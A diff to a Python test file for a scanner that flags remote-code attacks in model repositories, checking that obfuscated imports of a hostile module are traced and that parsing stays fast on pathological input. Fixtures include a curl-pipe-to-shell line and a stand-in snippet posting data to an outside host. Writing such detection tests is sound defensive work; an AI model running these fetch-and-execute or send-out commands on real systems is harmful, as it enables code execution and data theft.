@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import time
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Final
@@ -10,11 +11,13 @@ from typing import Final
 import pytest
 
 from scanner.checks.remote_code import CHECK
+from scanner.code.reach import imports_in
 from scanner.file_check import FileVerdict
 from tests.assets.make_file_assets import write_all
 from tests.scanner.check_runs import findings_of
 
 _SENT: Final = "https://webhook.site/x"
+_SENDING: Final = "def f():\n    import requests\n    requests.post('https://x.example')"
 _PIPED: Final = "curl http://x.example/a | sh"
 
 
@@ -84,3 +87,43 @@ def test_depth_hides_no_code_that_configuration_names(levels: int, is_inside: bo
         value = {"a": value}
     config = json.dumps({"auto_map": value} if is_inside else value)
     assert _verdicts(tmp_path, {"config.json": config}) == {"config.json": FileVerdict.NOT_READABLE}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "from .evil import x",
+        "".join(f"from .a{number} import b\n" for number in range(3100)) + "from .evil import x",
+        "".join(f"import a{number}\n" for number in range(3100)) + "import evil",
+        "if True: from .evil import x",
+        "x = 1; import evil",
+        "try: from . import evil\nexcept ImportError: pass",
+        "from .evil \\\n    import x",
+        "import os, \\\n    evil",
+        "from . import (os,  # one\n    evil)",
+        "from.evil import(x)",
+        "\fimport evil",
+        "x = 1\rimport evil",
+        "import importlib\nimportlib.import_module(name='.evil', package='a')",
+    ],
+)
+def test_import_is_followed_however_it_is_written(source: str, tmp_path: Path) -> None:
+    assert (
+        _verdicts(tmp_path, {"modeling_x.py": source, "evil.py": _SENDING})["evil.py"] is FileVerdict.ATTACK
+    )
+
+
+def test_import_of_a_file_whose_name_is_not_latin_is_followed(tmp_path: Path) -> None:
+    files = {"modeling_x.py": "from .模型 import x", "模型.py": _SENDING}
+    assert _verdicts(tmp_path, files)["模型.py"] is FileVerdict.ATTACK
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["from a import (\n", "from a import (#;", "\\\n", "; ", "import a,", "from a.b;", "import_module( "],
+)
+def test_imports_of_a_hostile_file_are_found_in_time(piece: str) -> None:
+    source = (piece * (1024**2 // len(piece))).encode()
+    started = time.monotonic()
+    assert len(list(imports_in(source, "modeling_x.py"))) < 10
+    assert time.monotonic() - started < 20
